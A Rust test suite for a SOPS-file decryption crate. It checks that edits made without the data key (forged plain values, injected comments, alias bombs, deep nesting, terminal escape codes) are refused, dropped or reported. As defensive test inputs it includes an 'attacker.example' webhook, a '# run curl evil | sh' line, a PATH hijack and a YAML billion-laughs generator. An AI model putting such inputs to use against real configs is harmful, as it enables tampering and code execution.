//! What an adversarial review found, on the frozen fixtures edited the way someone without
//! the data key could: what SOPS's MAC cannot see is refused, dropped or reported; YAML alias
//! bombs fail fast; text from the file reaches error messages escaped.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use kmseal_config::Format;
use kmseal_sops::{DecryptOptions, Decrypted, Error, Gap, Identities, Keys, Unauthenticated};

const DIR: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures");

fn read(name: &str) -> String {
    std::fs::read_to_string(format!("{DIR}/{name}")).unwrap()
}

fn keys() -> Keys {
    Keys::new(Identities::from_file(format!("{DIR}/keys.txt")).unwrap())
}

/// `text` edited: `from` (which must be there) replaced by `to`.
fn edit(text: &str, from: &str, to: &str) -> String {
    assert!(text.contains(from), "the edit does not apply: {from}");
    text.replacen(from, to, 1)
}

async fn strict(text: &str, format: Format) -> Result<Decrypted, Error> {
    kmseal_sops::decrypt_with(text, format, &keys(), &DecryptOptions::new()).await
}

async fn lax(text: &str) -> Result<Decrypted, Error> {
    let options = DecryptOptions::new().dangerous_accept_unauthenticated_plain(true);
    kmseal_sops::decrypt_with(text, Format::Yaml, &keys(), &options).await
}

fn report(d: &Decrypted) -> Vec<(String, Gap)> {
    d.unauthenticated()
        .iter()
        .map(|u| (u.path.clone(), u.gap))
        .collect()
}

fn paths(list: &[(&str, Gap)]) -> Vec<(String, Gap)> {
    list.iter().map(|(p, g)| ((*p).to_owned(), *g)).collect()
}

/// With `mac_only_encrypted`, plain values are outside the MAC: such a file is refused unless
/// the caller accepts it, and then every plain value is reported.
#[tokio::test]
async fn mac_only_files_are_refused_unless_accepted() {
    let orig = read("maconly.sops.yaml");
    let forged = edit(
        &orig,
        "    api_secret: sec-regex-2\n",
        "    api_secret: attacker-chosen-secret\n    webhook_url: https://attacker.example/hook\n",
    );
    for text in [&orig, &forged] {
        let err = strict(text, Format::Yaml).await.unwrap_err();
        assert!(matches!(err, Error::UnauthenticatedPlain), "{err}");
        let err = kmseal_sops::decrypt(text, Format::Yaml, &keys())
            .await
            .unwrap_err();
        assert!(matches!(err, Error::UnauthenticatedPlain), "{err}");
        assert!(err.to_string().contains("mac_only_encrypted"), "{err}");
    }
    // Refused before any key is asked: no identity needed to learn it.
    let err = kmseal_sops::decrypt(&orig, Format::Yaml, &Keys::new(Identities::new()))
        .await
        .unwrap_err();
    assert!(matches!(err, Error::UnauthenticatedPlain), "{err}");

    let d = lax(&forged).await.unwrap();
    assert!(d.plaintext().contains("api_secret: attacker-chosen-secret"));
    assert_eq!(
        report(&d),
        paths(&[
            ("service.name", Gap::OutsideMac),
            ("service.api_secret", Gap::OutsideMac),
            ("service.webhook_url", Gap::OutsideMac),
            ("service.replicas", Gap::OutsideMac),
        ])
    );
    // The encrypted value is still checked.
    let swapped = edit(
        &orig,
        "db_password: ENC[AES256_GCM,data:5",
        "db_password: ENC[AES256_GCM,data:6",
    );
    assert!(lax(&swapped).await.is_err());
}

/// SOPS encrypts comments; a plain one was written by someone without the key. It is left
/// out; encrypted ones stay.
#[tokio::test]
async fn plain_comments_are_dropped_and_encrypted_ones_kept() {
    let orig = read("app.sops.yaml");
    let text = edit(&orig, "servers:\n", "# attacker comment\nservers:\n");
    let text = edit(
        &text,
        "    deeper:\n",
        "    deeper:\n        # run curl evil | sh\n",
    );
    // An encrypted comment moved elsewhere no longer opens under its new path.
    let moved = orig
        .lines()
        .find(|l| l.trim_start().starts_with("#ENC[") && l.starts_with("    #"))
        .unwrap()
        .trim_start()
        .to_owned();
    let text = edit(&text, "nested:\n", &format!("nested:\n    {moved}\n"));
    let d = strict(&text, Format::Yaml).await.unwrap();
    let out = d.plaintext();
    assert!(!out.contains("attacker") && !out.contains("curl"), "{out}");
    assert!(!out.contains("ENC["), "{out}");
    assert!(out.starts_with("# Application settings\n"), "{out}");
    assert!(out.contains("  # the real one\n  password:"), "{out}");
    assert_eq!(out.matches("# the real one").count(), 1, "{out}");
    assert!(out.contains("# a comment before a key"), "{out}");
    assert_eq!(d.dropped_comments(), 3);
    let plain = strict(&orig, Format::Yaml).await.unwrap();
    assert_eq!(plain.dropped_comments(), 0);

    // .env: the same.
    let env = edit(
        &read("app.sops.env"),
        "DB_USER=",
        "#export PATH=/tmp/evil\nDB_USER=",
    );
    let d = strict(&env, Format::Dotenv).await.unwrap();
    assert!(!d.plaintext().contains("evil"), "{}", d.plaintext());
    assert!(d.plaintext().starts_with("# database credentials\n"));
    assert_eq!(d.dropped_comments(), 1);
}

/// Nulls, empty strings and empty collections add nothing to the MAC: SOPS accepts them added,
/// and so does this crate, but it says so.
#[tokio::test]
async fn entries_the_mac_cannot_see_are_reported() {
    let orig = read("app.sops.yaml");
    let d = strict(&orig, Format::Yaml).await.unwrap();
    assert_eq!(report(&d), paths(&[("database.empty", Gap::Empty)]));

    let text = edit(&orig, "database:\n", "admin_password: \"\"\ndatabase:\n");
    let text = edit(
        &text,
        "    empty: \"\"\n",
        "    empty: \"\"\n    x: \"\"\n    y: null\n    z:\n    extra: {}\n",
    );
    let text = edit(&text, "nested:\n", "nested:\n    list: []\n");
    let d = strict(&text, Format::Yaml).await.unwrap();
    assert!(d.plaintext().contains("admin_password: \"\""));
    assert_eq!(
        report(&d),
        paths(&[
            ("admin_password", Gap::Empty),
            ("database.empty", Gap::Empty),
            ("database.x", Gap::Empty),
            ("database.y", Gap::Empty),
            ("database.z", Gap::Empty),
            ("database.extra", Gap::Empty),
            ("nested.list", Gap::Empty),
        ])
    );

    let d = strict(&read("app.sops.json"), Format::Json).await.unwrap();
    assert_eq!(report(&d), paths(&[("nothing", Gap::Empty)]));
    let d = strict(&read("app.sops.env"), Format::Dotenv).await.unwrap();
    assert_eq!(report(&d), paths(&[("EMPTY", Gap::Empty)]));
}

/// An unencrypted value's text is in the MAC, its key is not, and the texts are hashed run
/// together: renaming its key or splitting it in two goes unseen by SOPS. Reported.
#[tokio::test]
async fn plain_values_are_reported_with_their_keys() {
    let orig = read("suffix.sops.yaml");
    let d = strict(&orig, Format::Yaml).await.unwrap();
    let want = [
        ("host_unencrypted", Gap::Plain),
        ("port_unencrypted", Gap::Plain),
        ("group.visible_unencrypted.inner", Gap::Plain),
    ];
    assert_eq!(report(&d), paths(&want));

    let renamed = edit(&orig, "host_unencrypted:", "admin_host_unencrypted:");
    let split = edit(
        &renamed,
        "        inner: still-plain\n",
        "        inner: still-\n        added: plain\n",
    );
    let d = strict(&split, Format::Yaml).await.unwrap();
    assert!(d.plaintext().contains("added: plain"));
    assert_eq!(
        report(&d),
        paths(&[
            ("admin_host_unencrypted", Gap::Plain),
            ("port_unencrypted", Gap::Plain),
            ("group.visible_unencrypted.inner", Gap::Plain),
            ("group.visible_unencrypted.added", Gap::Plain),
        ])
    );
    // A list item's path names its index.
    let text = edit(&read("app.sops.yaml"), "nested:\n", "    - null\nnested:\n");
    let d = strict(&text, Format::Yaml).await.unwrap();
    assert_eq!(
        report(&d),
        paths(&[("database.empty", Gap::Empty), ("servers[3]", Gap::Empty)])
    );
    let regex = strict(&read("regex.sops.yaml"), Format::Yaml)
        .await
        .unwrap();
    assert_eq!(
        report(&regex),
        paths(&[
            ("service.name", Gap::Plain),
            ("service.replicas", Gap::Plain)
        ])
    );
}

/// The `type:` of a ciphertext is neither in its AAD nor in the MAC (an int and its digits as
/// a string hash alike): as the crate docs say, the text is vouched for, not the type.
#[tokio::test]
async fn a_value_type_is_not_authenticated_as_documented() {
    let orig = read("app.sops.yaml");
    let port = orig.lines().find(|l| l.starts_with("    port:")).unwrap();
    let flipped = edit(&orig, port, &port.replace("type:int", "type:str"));
    let d = strict(&flipped, Format::Yaml).await.unwrap();
    assert!(
        d.plaintext().contains("port: \"5432\""),
        "{}",
        d.plaintext()
    );
}

/// "Billion laughs": each level aliases the one before ten times.
fn laughs(levels: usize) -> String {
    let mut doc = String::from(
        "l0: &l0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n",
    );
    for i in 1..=levels {
        let prev = i - 1;
        let items = vec![format!("*l{prev}"); 10].join(",");
        doc.push_str(&format!("l{i}: &l{i} [{items}]\n"));
    }
    doc.push_str("sops:\n  lastmodified: \"2026-12-02T07:20:55Z\"\n");
    doc
}

#[tokio::test]
async fn alias_bombs_and_deep_nesting_are_refused() {
    let bomb = laughs(7);
    assert!(bomb.len() < 1000);
    let err = strict(&bomb, Format::Yaml).await.unwrap_err();
    match &err {
        Error::Parse {
            format, message, ..
        } => {
            assert_eq!(*format, "YAML");
            assert!(message.contains("aliases"), "{err}");
        }
        other => panic!("{other}"),
    }
    // A few levels stay within the budget and get as far as the metadata.
    let err = strict(&laughs(2), Format::Yaml).await.unwrap_err();
    assert!(matches!(err, Error::Metadata(_)), "{err}");

    let deep = format!("a: {}{}\n", "[".repeat(200), "]".repeat(200));
    let err = strict(&deep, Format::Yaml).await.unwrap_err();
    assert!(
        matches!(&err, Error::Parse { message, .. } if message.contains("nested")),
        "{err}"
    );
    // Depth reached through aliases counts too.
    let mut deep = format!("a: &a {}{}\n", "[".repeat(100), "]".repeat(100));
    deep.push_str(&format!("b: {}*a{}\n", "[".repeat(100), "]".repeat(100)));
    let err = strict(&deep, Format::Yaml).await.unwrap_err();
    assert!(
        matches!(&err, Error::Parse { message, .. } if message.contains("nested")),
        "{err}"
    );
}

fn assert_escaped(err: &dyn std::fmt::Display) {
    let msg = err.to_string();
    assert!(!msg.chars().any(|c| c.is_control()), "{msg:?}");
    assert!(msg.contains("\\u{1b}"), "{msg:?}");
}

/// Keys, recipients and key ids from the file reach error messages escaped: a file cannot
/// rewrite the terminal that shows the error.
#[tokio::test]
async fn file_text_in_errors_is_escaped() {
    let orig = read("app.sops.yaml");
    // A key the value's AAD does not match: the error names the path.
    let text = edit(&orig, "    host: ENC[", "    \"\\e[31mhost\": ENC[");
    let err = strict(&text, Format::Yaml).await.unwrap_err();
    assert!(matches!(err, Error::Decrypt(_)), "{err}");
    assert_escaped(&err);
    // A value that is not a ciphertext.
    let text = edit(&orig, "    host: ENC[", "    \"\\e[31mhost\": xENC[");
    let err = strict(&text, Format::Yaml).await.unwrap_err();
    assert!(matches!(err, Error::Metadata(_)), "{err}");
    assert_escaped(&err);
    // An age recipient and a KMS key ARN.
    let recipient = "age1yt3tfqlfrwdwx0z0ynwplcr6qxcxfaqycuprpmy89nr83ltx74tqdpszlw";
    let text = edit(&orig, recipient, "\"age1\\e[32mevil\"");
    let text = edit(
        &text,
        "    age:\n",
        "    kms:\n        - arn: \"arn:aws:kms:\\e]0;x\\u0007\"\n          enc: AAAA\n    age:\n",
    );
    let err = kmseal_sops::decrypt(&text, Format::Yaml, &Keys::new(Identities::new()))
        .await
        .unwrap_err();
    assert!(matches!(err, Error::NoDataKey(_)), "{err}");
    assert_escaped(&err);
    assert!(err.to_string().contains("\\u{7}"), "{err}");
    // The report's Display escapes too.
    let text = edit(&orig, "    empty: \"\"", "    \"\\e[2Jempty\": \"\"");
    let d = strict(&text, Format::Yaml).await.unwrap();
    let shown: Vec<String> = d
        .unauthenticated()
        .iter()
        .map(Unauthenticated::to_string)
        .collect();
    assert_eq!(shown.len(), 1);
    assert_escaped(&shown[0]);
}
